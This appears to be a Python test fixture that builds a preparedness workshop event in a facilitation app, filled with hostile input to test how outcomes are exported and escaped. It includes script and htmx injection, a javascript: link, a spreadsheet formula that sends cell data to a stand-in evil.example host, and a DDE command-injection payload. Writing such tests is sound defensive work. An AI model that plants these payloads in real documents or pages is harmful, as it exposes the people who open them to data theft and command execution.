"""A real-looking event with hostile text in its items, shared by the outcomes tests."""

from __future__ import annotations

import uuid
from dataclasses import dataclass, field
from typing import Any

import httpx

from facilitation.services import Services
from tests.conftest import Server, auth, item_body, new_event

SCRIPT = '<script>alert("room")</script> Agree on one contact list'
HTMX = '<div hx-get="/api/events" hx-trigger="load" onclick="steal()">Shared drive</div>'
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'
PLUS = "+SUM(1,2) joint budget"
MINUS = "-2+3 pilot sites"
AT = "@SUM(A1:A2) exercise plan"
MULTILINE = "Line one of the plan\nLine two\n\n# Not a heading\n- not a list\n1. not numbered"
WORLD = "Beredskap på Vestlandet: øvelse 🚢🔥 — مرحبا بالعالم — Préparation régionale"
MARKUP = "[click](javascript:alert(1)) **bold** `code` | pipe & &amp; $x$ ~~gone~~"

EVENT = {
    "title": "Beredskap & <b>Preparedness</b> 🌊",
    "rooms": [
        {"name": "Havner og kritisk infrastruktur", "prompt": "Hvordan deler vi et situasjonsbilde?"},
        {"name": "=Citizens <i>&</i> households", "prompt": "What should every household know, and when?"},
        {"name": "Industrie et fournisseurs", "prompt": "Qui fait quoi ?"},
    ],
    "goals": ["Shared situational picture", "Clear roles", "Joint exercises", "Funding for pilots"],
}


@dataclass
class Hostile:
    event: dict[str, Any]
    token: str
    live_items: dict[str, dict[str, Any]] = field(default_factory=dict)
    live_roles: dict[str, dict[str, Any]] = field(default_factory=dict)
    deleted_items: set[str] = field(default_factory=set)
    deleted_roles: set[str] = field(default_factory=set)
    merge_id: str = ""
    merge_sources: list[str] = field(default_factory=list)

    @property
    def rooms(self) -> list[dict[str, Any]]:
        return self.event["rooms"]  # type: ignore[no-any-return]


def services_of(server: Server) -> Services:
    assert server.server is not None
    return server.server.config.app.state.services  # type: ignore[no-any-return]


async def hostile_event(http: httpx.AsyncClient, server: Server) -> Hostile:
    event = await new_event(http, EVENT)
    token = event["organiser_token"]
    h = Hostile(event, token)
    r1, r2, r3 = (r["id"] for r in event["rooms"])
    base = f"/api/events/{event['id']}/rooms"

    async def item(room: str, text: str, **fields: Any) -> dict[str, Any]:
        answer = await http.post(f"{base}/{room}/items", json=item_body(text, **fields),
                                 headers=auth(token))
        assert answer.status_code == 201, answer.text
        h.live_items[answer.json()["id"]] = answer.json()
        return answer.json()  # type: ignore[no-any-return]

    async def role(room: str, actor: str, name: str, responsibility: str = "") -> dict[str, Any]:
        body = {"id": str(uuid.uuid4()), "actor": actor, "role": name,
                "responsibility": responsibility, "author": "Kari Nordmann (Vestland)"}
        answer = await http.post(f"{base}/{room}/roles", json=body, headers=auth(token))
        assert answer.status_code == 201, answer.text
        h.live_roles[answer.json()["id"]] = answer.json()
        return answer.json()  # type: ignore[no-any-return]

    contact = await item(r1, SCRIPT, owner="Port of Bergen", due="2026-12-15", goals=["g1"],
                         author="Kari Nordmann (Vestland)")
    world = await item(r1, WORLD, owner="Ola Nordmann 🧭", due="2027-01-31", goals=["g1", "g2"])
    await item(r1, FORMULA, owner='=cmd|" /C calc"!A0', goals=["g2"])
    await item(r2, HTMX, owner="@municipality", due="2026-12-01", status="agreed")
    contact2 = await item(r2, "Agree on one contact list for ports and municipalities",
                          owner="Vestland county", due="2026-12-20", goals=["g1"])
    await item(r2, MULTILINE, owner="+47 555 00 000", status="done")
    await item(r3, PLUS, owner="-Fournisseurs-", due="2027-03-01")
    minus = await item(r3, MINUS, goals=["g2"])
    at = await item(r3, AT, owner="Sécurité civile", due="2027-02-14", goals=["g2"])
    await item(r3, MARKUP, owner="Ahmed الحربي")
    gone = await item(r1, "DELETED ITEM must not appear", owner="nobody")
    gone2 = await item(r3, "ANOTHER DELETED ITEM", due="2027-01-01")
    # An edit: the outcomes show the latest state.
    answer = await http.patch(f"{base}/{r1}/items/{contact['id']}",
                              json={"version": 1, "status": "agreed"}, headers=auth(token))
    assert answer.status_code == 200
    h.live_items[contact["id"]] = answer.json()

    await role(r1, "Port of Bergen", "Coordinator <script>x()</script>", "Keeps the contact list")
    await role(r2, "=Municipality", "Information to households", MULTILINE)
    await role(r3, "Fournisseurs d'énergie ⚡", "Point de contact", "Réponse sous 24 h")
    dropped = await role(r3, "DELETED ROLE", "nobody")
    answer = await http.delete(f"{base}/{r3}/roles/{dropped['id']}", headers=auth(token))
    assert answer.status_code == 204
    h.live_roles.pop(dropped["id"])
    h.deleted_roles.add(dropped["id"])

    # The plenary: votes, then a merge across rooms (of which one source is deleted later),
    # a merge that is undone, and a vote for the merged action.
    api = f"/api/events/{event['id']}"
    answer = await http.patch(f"{api}/plenary", json={"voting": True}, headers=auth(token))
    assert answer.status_code == 200, answer.text
    for voter, target in (("a", contact), ("b", contact), ("a", h.live_items[world["id"]])):
        answer = await http.post(f"{api}/votes", json={"item": target["id"], "voter": voter},
                                 headers=auth(token))
        assert answer.status_code == 201, answer.text
    h.merge_id = str(uuid.uuid4())
    h.merge_sources = [contact["id"], contact2["id"]]
    answer = await http.post(f"{api}/merges", headers=auth(token), json={
        "id": h.merge_id, "text": "One contact list <b>for</b> ports & municipalities",
        "items": [*h.merge_sources, gone["id"]]})
    assert answer.status_code == 201, answer.text
    undone = str(uuid.uuid4())
    answer = await http.post(f"{api}/merges", headers=auth(token), json={
        "id": undone, "text": "DELETED MERGE", "items": [minus["id"], at["id"]]})
    assert answer.status_code == 201, answer.text
    assert (await http.delete(f"{api}/merges/{undone}", headers=auth(token))).status_code == 204
    answer = await http.post(f"{api}/votes", json={"item": h.merge_id, "voter": "c"},
                             headers=auth(token))
    assert answer.status_code == 201, answer.text
    for deleted in (gone, gone2):
        answer = await http.delete(f"{base}/{deleted['room']}/items/{deleted['id']}",
                                   headers=auth(token))
        assert answer.status_code == 204
        h.live_items.pop(deleted["id"])
        h.deleted_items.add(deleted["id"])
    # Room 3 is closed at the end: its lock is part of the outcomes too.
    answer = await http.post(f"{api}/rooms/{r3}/lock", headers=auth(token))
    assert answer.status_code == 200, answer.text
    return h
